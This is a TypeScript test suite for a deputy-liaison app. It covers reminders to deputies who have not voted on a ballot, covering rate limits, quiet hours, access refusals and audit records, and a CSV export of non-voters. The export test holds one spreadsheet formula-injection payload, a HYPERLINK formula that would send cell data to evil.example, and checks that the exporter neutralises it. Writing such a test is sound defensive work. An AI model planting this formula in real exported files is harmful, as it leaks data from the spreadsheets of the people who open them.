import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import type { FakeWeChat } from '../fakes/wechat-api.js'
import { asAdmin, asDeputy, Client, startApp, type TestApp } from '../helpers/app.js'
import { meetingCity } from '../helpers/meetings.js'
import { ballotBody, surveyBody } from '../helpers/surveys.js'
import { BOT_SECRET, loginAs, startWithWeChat, subscribe, TEMPLATE } from '../helpers/wechat.js'
import { STAFF_PASSWORD } from '../fixtures.js'

const MINUTE = 60_000
const HOUR = 60 * MINUTE
/** 湛河区's five deputies: 张伟, 王芳, 李强, 赵敏, 刘洋. */
const ROLL = ['dp0001', 'dp0002', 'dp0003', 'dp0004', 'dp0005']
const CLOSES = '2026-12-08T18:00:00+08:00'
const WORDS = '票决提醒：请您在12月8日 18:00 前完成《2027年民生实事项目票决》投票。可在小程序“代表工作台”的“我的待办”中投票。'

/**
 * 提醒未参与: 孙丽, organizer of 湛河区, runs a ballot of her district's five deputies. 李强 votes at
 * once; 张伟 uses the mini-program, 王芳 the bot, 赵敏 and 刘洋 neither. One press reminds 张伟 and
 * 王芳, each in words they understand, names 赵敏 and 刘洋 to phone, and is written in 操作记录; a
 * second press that day sends nothing again. Nobody else may press it, nor for a ballot not open.
 */
describe('reminding the deputies who have not voted (提醒未参与)', () => {
  let app: TestApp & { fake: FakeWeChat }
  let sunli: Client
  let bot: Client
  beforeEach(async () => {
    app = await startWithWeChat()
    sunli = await new Client(app.baseUrl).login('sunli', STAFF_PASSWORD)
    bot = Object.assign(new Client(app.baseUrl), { bearer: BOT_SECRET })
  })
  afterEach(() => app.close())

  const reminders = async () => (await app.liaison.store.outbox.search({ limit: 100, kind: 'ballot.reminder' })).items
  const issueCode = async (deputyId: string) => (await (await asAdmin(app)).post(`/api/admin/deputies/${deputyId}/binding-code`)).body.code as string

  /** 张伟 in the mini-program (subscribed), 王芳 through the bot; 赵敏 and 刘洋 have bound nothing. */
  async function bindings() {
    const zhang = await loginAs(app, 'o-zhangwei')
    expect((await zhang.post('/api/mp/bind', { bindCode: await issueCode('dp0001') })).status).to.equal(200)
    await subscribe(zhang, 'accept', 3)
    const { body: wang } = await bot.post('/api/bot/people/resolve', { contactId: 'wxid_wangfang' })
    expect((await bot.post(`/api/bot/people/${wang.personId}/bind`, { code: await issueCode('dp0002') })).status).to.equal(200)
    return { zhang }
  }

  /** What the bot is handed and says, as it would in 王芳's chat; each acked as sent. */
  async function botSays(): Promise<Array<{ address: string; title: string; text: string }>> {
    const { body } = await bot.post('/api/bot/outbox/lease', { limit: 20 })
    for (const m of body.items) expect((await bot.post(`/api/bot/outbox/${m.id}/ack`, {})).status).to.equal(200)
    return body.items.map((m: { address: string; title: string; text: string }) => ({ address: m.address, title: m.title, text: m.text }))
  }

  async function ballot(over: Record<string, unknown> = {}) {
    const created = await sunli.post(
      '/api/admin/surveys',
      ballotBody({ closesAt: CLOSES, ballot: { passRule: 'roll_majority', maxChosen: 2, roll: { deputyIds: ROLL } }, ...over }),
    )
    expect(created.status, JSON.stringify(created.body)).to.equal(201)
    return created.body as { id: string }
  }

  it('reminds each reachable deputy who has not voted once, in words, names those to phone, and not twice a day', async () => {
    const { zhang } = await bindings()
    const b = await ballot()
    const li = await asDeputy(app, 'dp0003')
    expect((await li.post(`/api/mp/surveys/${b.id}/responses`, { answers: { projects: ['p1'] } })).status).to.equal(201)

    // The notices are still on their way: a reminder now would arrive with them.
    const early = await sunli.post(`/api/admin/surveys/${b.id}/remind`)
    expect([early.status, early.body.error.code, early.body.error.message]).to.deep.equal([
      409,
      'notice_not_sent',
      '4 人的通知待发送，会自动发出，不用您操作；发出后如果还没参与，可以再提醒',
    ])

    await app.liaison.services.dispatcher.drain()
    expect((await botSays()).map((m) => m.text)).to.deep.equal([
      '票决通知：《2027年民生实事项目票决》已开始，12月8日 18:00 截止。请在小程序“代表工作台”的“我的待办”中投票。',
    ])
    // Just delivered: give them time to read it first, as a meeting's 提醒未回复 does.
    const soon = await sunli.post(`/api/admin/surveys/${b.id}/remind`)
    expect([soon.status, soon.body.error.code]).to.deep.equal([409, 'notice_just_sent'])
    expect(soon.body.error.message).to.equal(
      '2 人的通知刚发出不久，请在 11月23日 11:00 以后再提醒，给大家留出看通知的时间；2 人没有绑定微信，收不到，请电话联系：赵敏、刘洋',
    )
    expect(await reminders()).to.deep.equal([])
    // The console says so before anyone presses: no button (ready 0), the same words.
    expect((await sunli.get(`/api/admin/surveys/${b.id}/reminders`)).body).to.deep.include({ ready: 0, note: soon.body.error.message })

    app.clock.advance(HOUR)
    expect((await sunli.get(`/api/admin/surveys/${b.id}/reminders`)).body, 'the button reminds the 2 who can be reached').to.deep.equal({
      closed: null,
      waiting: 4,
      remindedToday: 0,
      ready: 2,
      note: '2 人没有绑定微信，收不到，请电话联系：赵敏、刘洋',
    })
    const pressed = await sunli.post(`/api/admin/surveys/${b.id}/remind`)
    expect(pressed.status, JSON.stringify(pressed.body)).to.equal(200)
    expect(pressed.body).to.deep.equal({
      reminded: 2,
      remindedToday: 0,
      unreachable: [
        { deputyId: 'dp0004', name: '赵敏' },
        { deputyId: 'dp0005', name: '刘洋' },
      ],
      words: '已提醒 2 人；2 人没有绑定微信，收不到，请电话联系：赵敏、刘洋',
    })
    expect((await reminders()).map((m) => m.recipientId).sort(), '李强 voted: nothing for him').to.deep.equal(['dp0001', 'dp0002'])

    await app.liaison.services.dispatcher.drain()
    const card = app.fake
      .sent()
      .filter((m) => m.touser === 'o-zhangwei')
      .pop()!
    expect(card.template_id).to.equal(TEMPLATE)
    expect(card.data.thing1.value).to.equal('票决提醒：2027年民生实事项目票决')
    expect(card.data.thing3.value).to.equal('请在12月8日前完成投票')
    expect(card.page).to.equal(`pages/survey/answer?surveyId=${b.id}`)
    expect(await botSays()).to.deep.equal([{ address: 'wxid_wangfang', title: '票决提醒', text: WORDS }])

    // A second press the same day: nobody is reminded twice.
    const again = await sunli.post(`/api/admin/surveys/${b.id}/remind`)
    expect([again.status, again.body.error?.code], JSON.stringify(again.body)).to.deep.equal([429, 'reminded_today'])
    expect(again.body.error.message).to.equal('今天已经提醒过了，明天可以再提醒；2 人没有绑定微信，收不到，请电话联系：赵敏、刘洋')
    expect(await reminders()).to.have.length(2)
    // Today's round is sent: the console has no button to press again, and says why, also after a reload.
    expect((await sunli.get(`/api/admin/surveys/${b.id}/reminders`)).body).to.deep.equal({
      closed: null,
      waiting: 4,
      remindedToday: 2,
      ready: 0,
      note: '今天已提醒 2 人，明天可以再提醒；2 人没有绑定微信，收不到，请电话联系：赵敏、刘洋',
    })

    const { items } = (await (await asAdmin(app)).get('/api/admin/audit?action=survey.reminded')).body
    expect(items.map((e: Record<string, string>) => [e.actorWords, e.actionWords, e.targetWords, e.detailWords].join(' | '))).to.deep.equal([
      '孙丽（人大办工作人员） | 提醒未参与的代表 | 问卷「2027年民生实事项目票决」 | 提醒 2 人，2 人收不到，需电话联系',
    ])

    // The next day 张伟 has voted: only 王芳 is reminded again.
    app.clock.advance(24 * HOUR)
    await sunli.login('sunli', STAFF_PASSWORD)
    expect((await zhang.post(`/api/mp/surveys/${b.id}/responses`, { answers: { projects: ['p2'] } })).status).to.equal(201)
    const nextDay = await sunli.post(`/api/admin/surveys/${b.id}/remind`)
    expect(nextDay.body.words).to.equal('已提醒 1 人；2 人没有绑定微信，收不到，请电话联系：赵敏、刘洋')
    expect((await reminders()).map((m) => m.recipientId).sort()).to.deep.equal(['dp0001', 'dp0002', 'dp0002'])
  })

  it('holds the reminder till morning in quiet hours, and says so', async () => {
    await app.close()
    app = await startWithWeChat({ outbox: { quietHours: { start: '21:00', end: '08:00', immediateKinds: [] } } })
    sunli = await new Client(app.baseUrl).login('sunli', STAFF_PASSWORD)
    bot = Object.assign(new Client(app.baseUrl), { bearer: BOT_SECRET })
    await bindings()
    const b = await ballot()
    await app.liaison.services.dispatcher.drain()
    await botSays()
    app.clock.set(new Date('2026-11-23T14:00:00Z')) // 22:00 in Asia/Shanghai
    await sunli.login('sunli', STAFF_PASSWORD)
    const pressed = await sunli.post(`/api/admin/surveys/${b.id}/remind`)
    expect(pressed.body.words).to.equal('已提醒 2 人（夜间免打扰，8:00 后发送）；3 人没有绑定微信，收不到，请电话联系：李强、赵敏、刘洋')
    await app.liaison.services.dispatcher.drain()
    expect(
      app.fake.sent().filter((m) => m.data.thing1.value.startsWith('票决提醒')),
      'not sent at night',
    ).to.deep.equal([])
  })

  it("refuses a draft, a ballot not yet open and a closed one, and anyone outside the organizer's district, queueing nothing", async () => {
    const draft = await ballot({ draft: true })
    const notYet = await ballot({ opensAt: '2026-11-25T09:00:00+08:00' })
    const closed = await ballot()
    expect((await sunli.post(`/api/admin/surveys/${closed.id}/close`)).status).to.equal(200)
    const refusals = [
      [draft.id, 'survey_draft', '票决还是草稿，发布以后才能提醒'],
      [notYet.id, 'survey_not_open', '票决还没有开始（11月25日 9:00 开始），开始以后才能提醒'],
      [closed.id, 'survey_closed', '票决已经截止，不能再提醒'],
    ]
    for (const [id, code, message] of refusals) {
      const answer = await sunli.post(`/api/admin/surveys/${id}/remind`)
      expect([answer.status, answer.body.error.code, answer.body.error.message]).to.deep.equal([409, code, message])
      expect((await sunli.get(`/api/admin/surveys/${id}/reminders`)).body.closed).to.equal(message)
    }

    const open = await ballot()
    app.clock.advance(HOUR)
    const qianqi = await new Client(app.baseUrl).login('qianqi', STAFF_PASSWORD) // organizer of 新华区
    for (const answer of [
      await qianqi.post(`/api/admin/surveys/${open.id}/remind`),
      await qianqi.get(`/api/admin/surveys/${open.id}/reminders`),
      await qianqi.get(`/api/admin/surveys/${open.id}/not-voted.csv`),
    ])
      expect([answer.status, answer.body.error?.code], "湛河区's ballot is not 钱七's").to.deep.equal([404, 'not_found'])
    const lina = await new Client(app.baseUrl).login('lina', STAFF_PASSWORD)
    expect((await lina.post(`/api/admin/surveys/${open.id}/remind`)).status, 'station staff run no ballots').to.equal(403)
    expect(await reminders(), 'nothing queued').to.deep.equal([])

    const poster = await sunli.post('/api/admin/surveys', surveyBody())
    const unnamed = await sunli.post(`/api/admin/surveys/${poster.body.id}/remind`)
    expect([unnamed.status, unnamed.body.error.code], 'a survey anyone may scan has no list to remind').to.deep.equal([422, 'not_a_ballot'])
  })

  it('refuses a named survey that has taken all the answers it may: it would refuse those reminded', async () => {
    const { zhang } = await bindings()
    const created = await sunli.post(
      '/api/admin/surveys',
      surveyBody({ title: '代表履职问卷', audience: { deputyIds: ['dp0001', 'dp0002', 'dp0003'] }, responseCap: 1 }),
    )
    expect(created.status, JSON.stringify(created.body)).to.equal(201)
    const id = created.body.id as string
    await app.liaison.services.dispatcher.drain()
    await botSays()
    app.clock.advance(HOUR)
    expect((await (await asDeputy(app, 'dp0003')).post(`/api/mp/surveys/${id}/responses`, { answers: { q1: 'o2', q3: 4 } })).status).to.equal(201)
    const refused = await zhang.post(`/api/mp/surveys/${id}/responses`, { answers: { q1: 'o2', q3: 4 } })
    expect([refused.status, refused.body.error.message], 'what a reminded deputy would meet').to.deep.equal([409, '填写人数已满，问卷已停止收集'])

    const full = '问卷已收满 1 份，不再收集，不用提醒'
    // The console hides 提醒未参与 and shows this instead.
    expect((await sunli.get(`/api/admin/surveys/${id}/reminders`)).body).to.deep.equal({ closed: full, waiting: 2, remindedToday: 0, ready: 0, note: null })
    const answer = await sunli.post(`/api/admin/surveys/${id}/remind`)
    expect([answer.status, answer.body.error?.code, answer.body.error?.message], JSON.stringify(answer.body)).to.deep.equal([409, 'response_cap_reached', full])
    expect((await app.liaison.store.outbox.search({ limit: 100, kind: 'survey.reminder' })).items, 'nothing queued').to.deep.equal([])
  })

  it('refuses a body it would not use (chosen deputies), queueing nothing; none, or {}, is a press', async () => {
    await bindings()
    const b = await ballot()
    await app.liaison.services.dispatcher.drain()
    await botSays()
    app.clock.advance(HOUR)
    const chosen = await sunli.post(`/api/admin/surveys/${b.id}/remind`, { deputyIds: ['dp0001'] })
    expect([chosen.status, chosen.body]).to.deep.equal([
      400,
      { error: { code: 'validation_failed', message: '输入有误', details: [{ path: 'body.deputyIds', message: '不允许的字段' }] } },
    ])
    expect(await reminders(), 'nothing queued').to.deep.equal([])
    const pressed = await sunli.post(`/api/admin/surveys/${b.id}/remind`, {})
    expect([pressed.status, pressed.body.reminded], JSON.stringify(pressed.body)).to.deep.equal([200, 2])
    const again = await sunli.post(`/api/admin/surveys/${b.id}/remind`)
    expect([again.status, again.body.error.code], 'no body: a press, refused only as one').to.deep.equal([429, 'reminded_today'])
  })
})

/** 导出未参与名单: the same people, as a sheet to phone down, through the one CSV writer. */
describe('exporting who has not voted (导出未参与名单)', () => {
  const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
  let app: TestApp
  beforeEach(async () => {
    const city = meetingCity()
    city.deputies.push({ id: 'dp0007', code: 'DP0007', name: EVIL, level: 'city', stationIds: ['st001'], topics: [], phone: null, dutyDates: [] })
    app = await startApp({ directory: city })
    app.clock.set(new Date('2026-11-23T02:00:00Z'))
  })
  afterEach(() => app.close())

  it('lists name, number, station and whether the notice arrived, a formula as text, and is audited', async () => {
    const sunli = await new Client(app.baseUrl).login('sunli', STAFF_PASSWORD)
    const { body: b } = await sunli.post(
      '/api/admin/surveys',
      ballotBody({ ballot: { passRule: 'roll_majority', maxChosen: 2, roll: { deputyIds: ['dp0001', 'dp0003', 'dp0007'] } } }),
    )
    expect((await (await asDeputy(app, 'dp0001')).post(`/api/mp/surveys/${b.id}/responses`, { answers: { projects: ['p1'] } })).status).to.equal(201)
    const answer = await sunli.get(`/api/admin/surveys/${b.id}/not-voted.csv`)
    expect(answer.status).to.equal(200)
    expect(answer.headers.get('content-type')).to.equal('text/csv; charset=utf-8')
    expect(answer.headers.get('content-disposition')).to.include(encodeURIComponent('2027年民生实事项目票决-未参与名单.csv'))
    const bytes = answer.body as Buffer
    expect([...bytes.subarray(0, 3)], 'UTF-8 byte-order mark, for Excel').to.deep.equal([0xef, 0xbb, 0xbf])
    expect(parse(bytes.subarray(3).toString('utf8'))).to.deep.equal([
      ['姓名', '代表编号', '联络站', '通知送达', '说明'],
      ['李强', 'DP0003', '马庄街道代表联络站、轻工街道代表联络站', '待发送', ''],
      [`'${EVIL}`, 'DP0007', '轻工街道代表联络站', '待发送', ''],
    ])
    const { items } = (await (await asAdmin(app)).get('/api/admin/audit?action=survey.not_voted_exported')).body
    expect(items.map((e: Record<string, string>) => `${e.actionWords} | ${e.targetWords} | ${e.detailWords}`)).to.deep.equal([
      '导出未参与名单 | 问卷「2027年民生实事项目票决」 | 共 2 人',
    ])
  })
})
